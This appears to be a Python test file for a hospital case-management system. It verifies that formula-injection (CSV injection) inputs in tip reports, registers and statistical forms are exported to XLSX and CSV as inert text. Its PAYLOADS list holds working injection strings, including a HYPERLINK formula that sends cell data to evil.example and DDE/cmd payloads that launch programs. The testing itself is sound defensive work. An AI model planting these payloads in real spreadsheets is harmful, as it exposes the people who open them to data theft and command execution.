"""Formula injection (OWASP "CSV Injection"): text typed by the public or the staff that
starts like a formula reaches every export as text; numbers and dates stay typed.

Every export is read back with openpyxl: the cell's data type is ``s`` (a string, not
``f``, a formula), Excel's quote prefix is set, and the text is the one stored."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from openpyxl import load_workbook

from cases.record_actions import perform
from cases.redpacket import RegisterFilter, register_surrender, register_xlsx
from cases.states import ClueState
from config.spreadsheet import clean_text, looks_like_formula, write_csv
from reporting.export import SheetSpec, export_many, export_xlsx
from reporting.forms import FORMS
from tests.cases.factories import clue_in_state
from tests.conftest import login, post_form, user

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "=",
    "-",
)
SAFE = ("张三", "某医院 = 好", "1+1", "2026-05-01", "100")


def cells_by_text(ws) -> dict[str, object]:
    return {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def assert_text_cell(cells: dict[str, object], payload: str) -> None:
    # The standard library's XML parser reads a carriage return back as a line feed; lxml
    # (installed for python-docx, and then used by openpyxl) keeps it.
    text = clean_text(payload)
    if text not in cells:
        text = text.replace("\r", "\n")
    assert text in cells, f"{payload!r} not exported as text"
    cell = cells[text]
    assert cell.data_type == "s", (payload, cell.data_type)  # type: ignore[attr-defined]
    assert cell.quotePrefix is looks_like_formula(text)  # type: ignore[attr-defined]


def test_what_counts_as_a_formula():
    for payload in PAYLOADS:
        assert looks_like_formula(payload), payload
    for text in SAFE:
        assert not looks_like_formula(text), text
    # Characters XML cannot hold are dropped rather than failing the export.
    assert clean_text("a\x00b\x01c\x1fd\te\nf") == "abcd\te\nf"


@pytest.fixture
def clock():
    at = datetime(2026, 6, 15, 10, tzinfo=ZoneInfo("Asia/Shanghai"))
    with time_machine.travel(at, tick=False):
        yield


def test_portal_tip_and_every_ledger_column_export_as_text(app, client, db, clock):
    """The found case, end to end: an anonymous portal tip starting with ``=`` and the
    ledger XLSX a leader downloads."""
    app.config["QINGFENG"] = app.config["QINGFENG"].with_overrides(intake_unit="C01-D01")
    sent = post_form(
        client, "/portal/report", {"content": PAYLOADS[0], "named": "n"}, token_from="/portal/"
    )
    assert sent.status_code == 200, sent.get_data(as_text=True)
    handler = user(db, "handler")
    stored = []
    for i, payload in enumerate(PAYLOADS):
        clue = clue_in_state(db, ClueState.VERIFYING, summary=f"{payload}{i}")
        subject = perform(
            db,
            handler,
            clue,
            "subject",
            {"kind": "person", "name": f"{payload}{i}", "post": "doctor"},
        )
        stored += [clue.summary, subject.name]
    db.flush()
    login(client, "leader")
    response = client.get("/ledger/export.xlsx")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.get_data())).active
    cells = cells_by_text(ws)
    assert_text_cell(cells, PAYLOADS[0])  # the portal tip's summary
    for text in stored:  # 主要问题摘要, 反映对象 as the services stored them
        assert_text_cell(cells, text)
    assert sum(looks_like_formula(t) for t in stored) >= len(PAYLOADS)
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    # 序号 stays a number.
    assert all(isinstance(ws.cell(r, 1).value, int) for r in range(3, ws.max_row + 1))


def test_red_packet_register_keeps_text_as_text_and_amounts_and_dates_typed(db):
    reporter = user(db, "reporter")
    for i, payload in enumerate(PAYLOADS):
        register_surrender(
            db,
            reporter,
            {
                "staff_name": clean_text(payload).strip()[:50] or "某",
                "department": payload.strip() or "科",
                "patient_name": payload,
                "amount_yuan": str(100 + i),
                "received_on": "2026-05-01",
                "surrendered_on": "2026-05-02",
                "receipt_no": payload.strip()[:20] or "0",
            },
        )
    may = RegisterFilter(start=date(2026, 5, 1), end=date(2026, 5, 31))
    ws = load_workbook(io.BytesIO(b"".join(register_xlsx(db, reporter, may)))).active
    assert ws.max_row == len(PAYLOADS) + 1
    for r in range(2, ws.max_row + 1):
        for c in (3, 4, 5, 9):
            cell = ws.cell(r, c)
            assert cell.data_type == "s", (r, c, cell.value)
        assert ws.cell(r, 6).data_type == "n" and Decimal(str(ws.cell(r, 6).value)) >= 100
        assert ws.cell(r, 7).is_date and ws.cell(r, 8).is_date
    assert [c for row in ws.iter_rows() for c in row if c.data_type == "f"] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_statistical_form_export_keeps_typed_text_as_text(payload):
    meta = {
        "unit_name": payload,
        "period_label": "2026年1-5月",
        "filled_at": date(2026, 6, 10),
        "leader": payload,
        "filler": "李四",
        "contact": payload,
    }
    values = {("public_l3", "refunded"): Decimal("-1.5"), ("public_l3", "remarks"): payload}
    ws = load_workbook(io.BytesIO(export_xlsx(FORMS["zl2"], values, **meta))).active
    cells = cells_by_text(ws)
    assert_text_cell(cells, payload)  # 备注
    leader = f"单位负责人：{clean_text(payload)}"
    leader = leader if leader in cells else leader.replace("\r", "\n")  # see assert_text_cell
    assert cells[leader].data_type == "s"
    assert ws["O9"].value == -1.5 and ws["O9"].data_type == "n"  # a negative number stays one
    assert [c for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
    text_form = next(f for f in FORMS.values() if f.sections)
    section = text_form.sections[0].code
    data = export_many([SheetSpec(text_form, {(section, "text"): payload}, unit_name="某单位")])
    ws = load_workbook(io.BytesIO(data)).active
    assert_text_cell(cells_by_text(ws), payload)


def test_csv_writer_prefixes_formulas_and_keeps_numbers():
    buffer = io.StringIO(newline="")
    write_csv(buffer, [[p, 12, Decimal("-3.5"), date(2026, 5, 1)] for p in (*PAYLOADS, *SAFE)])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    for row, payload in zip(rows, (*PAYLOADS, *SAFE), strict=True):
        expected = "'" + payload if looks_like_formula(payload) else payload
        assert row == [expected, "12", "-3.5", "2026-05-01"]
